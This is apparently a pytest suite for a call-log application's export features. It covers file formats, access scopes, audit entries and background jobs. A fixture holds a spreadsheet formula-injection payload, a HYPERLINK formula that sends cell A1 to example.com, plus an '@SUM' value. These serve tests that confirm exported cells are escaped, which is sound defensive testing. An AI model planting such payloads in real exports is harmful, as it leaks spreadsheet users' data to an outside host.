"""Exports: what is in the files, that no spreadsheet runs what a caller said, and who may fetch them."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from ringbook.desk.governance.models import AuditEntry
from ringbook.desk.organisation.models import Organisation
from ringbook.desk.people.access import scope_of
from ringbook.desk.people.models import Person, Team
from ringbook.desk.workspace import runner
from ringbook.desk.workspace.jobs import exports_folder
from ringbook.desk.workspace.models import Job, JobState
from ringbook.model.call import Call
from ringbook.runtime.home import Home
from ringbook.search import pages
from ringbook.web.pages.jobs import exports, writers
from ringbook.web.pages.jobs.cells import COLUMNS, PARQUET, harmless

from ..house import People, write_calls
from ..search.calls import HAND_MADE, identity, outside

As = Callable[[Person], Client]
EVIL = '=HYPERLINK("http://example.com/"&A1)'


@pytest.fixture
def evil(house: Home) -> Call:
    """A call from somebody whose name is a formula."""
    late = HAND_MADE["late"]
    call = msgspec.structs.replace(
        late, id=identity(late.started_at, 6_001), caller=outside("+15125550144", EVIL), queue="@SUM(1)"
    )
    write_calls(house, [call])
    return call


def export(client: Client, form: str, query: str = "", **more: str) -> bytes:
    response = client.post(
        "/calls/-/export", {"apply": "1", "everything": "on", "q": query, "format": form, **more}
    )
    assert response.status_code == 200, response.content[:500]
    assert response.headers["Content-Disposition"].endswith(f'.{form}"')
    return response.content


def table(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def ids(house: Home, person: Person, query: str = "") -> list[str]:
    page = pages.list_calls(house.ledger, scope_of(person), query, limit=1000, now=10**16)
    return [call.id for call in page.items]


def test_csv_has_every_call_of_the_question_newest_first(house: Home, people: People, as_: As) -> None:
    rows = table(export(as_(people.owner), "csv", "outcome:missed"))
    assert [row["id"] for row in rows] == ids(house, people.owner, "outcome:missed")
    assert tuple(rows[0]) == COLUMNS
    assert {row["outcome"] for row in rows} == {"missed"}
    assert export(as_(people.owner), "csv", "outcome:missed", bom="on").startswith(b"\xef\xbb\xbf")
    assert not export(as_(people.owner), "csv").startswith(b"\xef\xbb\xbf")


def test_no_cell_is_a_formula(house: Home, people: People, as_: As, evil: Call) -> None:
    [row] = table(export(as_(people.owner), "csv", f"id:{evil.id}"))
    assert row["from_name"] == f"'{EVIL}"
    assert row["queue"] == "'@SUM(1)"
    assert row["from_number"] == "+15125550144"


@given(st.text(max_size=30))
def test_harmless_text_begins_with_nothing_that_computes(text: str) -> None:
    cell = harmless(text)
    assert cell in (text, f"'{text}")
    if not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell, re.ASCII):
        assert cell.lstrip()[:1] not in ("=", "+", "-", "@")
        assert cell[:1] not in ("\t", "\r", "\n", "=", "+", "-", "@")


def test_xlsx_has_text_as_text_and_numbers_as_numbers(
    house: Home, people: People, as_: As, evil: Call, tmp_path: Path
) -> None:
    place = tmp_path / "calls.xlsx"
    place.write_bytes(export(as_(people.owner), "xlsx", f"id:{evil.id}"))
    sheet = _sheets(place)["xl/worksheets/sheet1.xml"]
    assert "<f>" not in sheet
    assert "=HYPERLINK(" in sheet
    assert "started_at (America/New_York)" in sheet
    assert re.search(r'<c r="[A-Z]+2" s="\d"><v>46\d\d\d\.\d+</v>', sheet)


def _sheets(place: Path) -> dict[str, str]:
    import zipfile

    with zipfile.ZipFile(place) as book:
        return {
            name: book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")
        }


def test_xlsx_goes_on_in_another_sheet(
    monkeypatch: pytest.MonkeyPatch, house: Home, people: People, as_: As, tmp_path: Path
) -> None:
    monkeypatch.setattr(writers, "SHEET_ROWS", 100)
    place = tmp_path / "calls.xlsx"
    place.write_bytes(export(as_(people.owner), "xlsx"))
    sheets = _sheets(place)
    rows = [len(re.findall("<row ", text)) - 1 for text in sheets.values()]
    assert sum(rows) == len(ids(house, people.owner))
    assert max(rows) == 100


def test_json_lines_are_the_public_shape(house: Home, people: People, as_: As) -> None:
    lines = [json.loads(line) for line in export(as_(people.owner), "jsonl", "queue:sales").splitlines()]
    assert [line["id"] for line in lines] == ids(house, people.owner, "queue:sales")
    assert {"from", "to", "legs", "steps", "keys", "annotations"} <= lines[0].keys()


def test_parquet_has_typed_columns_and_unknown_is_null(
    house: Home, people: People, as_: As, tmp_path: Path
) -> None:
    place = tmp_path / "calls.parquet"
    place.write_bytes(export(as_(people.owner), "parquet"))
    found = pq.read_table(place)
    assert found.schema.equals(PARQUET)
    rows = {row["id"]: row for row in found.to_pylist()}
    sales, unknown = rows[HAND_MADE["sales"].id], rows[HAND_MADE["nothing-known"].id]
    assert sales["talk_s"] == 300.0
    assert int(sales["started_at"].timestamp() * 1e6) == HAND_MADE["sales"].started_at
    assert sales["sources"] == ["office"]
    assert unknown["talk_s"] is None
    assert unknown["answered_at"] is None


def test_an_export_holds_what_its_maker_may_see(house: Home, people: People, as_: As) -> None:
    Organisation.objects.update(masked_roles=["supervisor"])
    data = export(as_(people.supervisor), "csv")
    assert {row["id"] for row in table(data)} == set(ids(house, people.supervisor))
    text = data.decode()
    for digits in ("5125550101", "2079460101"):
        assert digits not in text
        assert digits not in export(as_(people.supervisor), "jsonl").decode()


def test_an_agent_exports_nothing(house: Home, people: People, as_: As) -> None:
    for place in ("/calls/-/export", "/calls/-/chosen/export"):
        assert as_(people.agent).post(place, {"apply": "1", "q": "", "format": "csv"}).status_code == 403
    assert not AuditEntry.objects.filter(action="calls:exported").exists()


def test_chosen_calls_are_exported_if_they_are_within_the_scope(house: Home, people: People, as_: As) -> None:
    everything, led = ids(house, people.owner), ids(house, people.supervisor)
    foreign = next(call for call in everything if call not in led)
    response = as_(people.supervisor).post(
        "/calls/-/export", {"apply": "1", "call": [led[0], foreign, "nonsense"], "format": "csv"}
    )
    assert [row["id"] for row in table(response.content)] == [led[0]]


def test_every_export_is_written_down_with_its_question_and_count(
    house: Home, people: People, as_: As
) -> None:
    export(as_(people.auditor), "csv", "outcome:missed")
    entry = AuditEntry.objects.get(action="calls:exported")
    detail = json.loads(entry.detail)
    assert detail == {
        "format": "csv",
        "query": "outcome:missed",
        "count": len(ids(house, people.owner, "outcome:missed")),
    }
    assert entry.actor == f"person:{people.auditor.pk}"


@pytest.mark.parametrize("told", [{"format": "exe"}, {"q": "queu:x"}, {"call": ["x"] * 2_000}])
def test_bad_wishes_are_refused(house: Home, people: People, as_: As, told: dict[str, Any]) -> None:
    response = as_(people.owner).post("/calls/-/export", {"apply": "1", "format": "csv", **told})
    assert response.status_code == 400


# --- in the background -----------------------------------------------------------------------------------------------


@pytest.fixture
def few(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Ten calls are many."""
    monkeypatch.setattr(exports, "AT_ONCE", 10)
    monkeypatch.setattr(exports, "CHUNK", 25)
    return


def begun(client: Client, query: str = "", form: str = "csv") -> Job:
    response = client.post("/calls/-/export", {"apply": "1", "everything": "on", "q": query, "format": form})
    assert response.headers["Location"] == "/exports/"
    return Job.objects.latest("made_at")


def test_a_large_export_is_made_in_the_background_and_fetched_by_its_owner(
    house: Home, people: People, as_: As, few: None
) -> None:
    client = as_(people.owner)
    row = begun(client, "direction:inbound")
    assert "data-job-url" in client.get(f"/jobs/{row.pk}").content.decode()
    assert client.get(f"/exports/{row.pk}").status_code == 410
    runner.run_waiting()
    assert f'href="/exports/{row.pk}"' in client.get(f"/jobs/{row.pk}").content.decode()
    response = client.get(f"/exports/{row.pk}")
    data = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    assert [line["id"] for line in table(data)] == ids(house, people.owner, "direction:inbound")
    assert int(response.headers["Content-Length"]) == len(data)
    assert AuditEntry.objects.filter(action="export:fetched", subject=f"job:{row.pk}").count() == 1
    for other in (people.administrator, people.agent, people.auditor):
        for place in (f"/exports/{row.pk}", f"/jobs/{row.pk}"):
            assert as_(other).get(place).status_code in (403, 404)
        assert as_(other).post(f"/jobs/{row.pk}/delete").status_code == 404
    assert Job.objects.filter(pk=row.pk).exists()


def test_who_sees_less_than_when_it_was_made_does_not_get_the_file(
    house: Home, people: People, as_: As, few: None
) -> None:
    client = as_(people.supervisor)
    row = begun(client)
    runner.run_waiting()
    Team.objects.get().members.clear()
    response = client.get(f"/exports/{row.pk}")
    assert response.status_code == 403
    assert "has changed" in response.content.decode()


def test_an_interrupted_export_is_told_and_done_again(
    house: Home, people: People, as_: As, few: None
) -> None:
    client = as_(people.owner)
    row = begun(client)
    Job.objects.filter(pk=row.pk).update(state=JobState.RUNNING, done=25)
    runner.mark_interrupted()
    text = client.get("/exports/").content.decode()
    assert "Interrupted" in text
    assert "Nothing was lost" in text
    client.post(f"/jobs/{row.pk}/retry")
    runner.run_waiting()
    row.refresh_from_db()
    assert row.state == JobState.DONE
    assert row.done == len(ids(house, people.owner))


def test_a_cancelled_export_leaves_no_file(house: Home, people: People, as_: As, few: None) -> None:
    client = as_(people.owner)
    row = begun(client)
    assert "Cancelled" in client.post(f"/jobs/{row.pk}/cancel").content.decode()
    assert runner.run_waiting() == 0
    before = set(exports_folder().iterdir())
    row = begun(client)
    runner.run_waiting()
    row.refresh_from_db()
    assert len(set(exports_folder().iterdir()) - before) == 1
    client.post(f"/jobs/{row.pk}/delete")
    assert set(exports_folder().iterdir()) == before


@pytest.mark.parametrize("form", sorted(writers.FORMATS))
def test_files_are_written_a_chunk_at_a_time(form: str, tmp_path: Path, house: Home, people: People) -> None:
    """A writer that gathered all calls first would ask for the second chunk before it wrote the first."""
    from ringbook.web.shapes import shown_many
    from ringbook.web.viewer import viewer_of

    viewer = viewer_of(people.owner)
    shapes = shown_many(viewer, list(HAND_MADE.values()))
    alive = 0
    most = 0

    def chunks() -> Iterator[list[dict[str, Any]]]:
        nonlocal alive, most
        for _ in range(20):
            alive += 1
            most = max(most, alive)
            yield [dict(shape) for shape in shapes]
            alive -= 1

    writers.FORMATS[form].write(tmp_path / "out", chunks(), writers.Writing(zone="UTC"))
    assert most == 1
    assert (tmp_path / "out").stat().st_size > 100
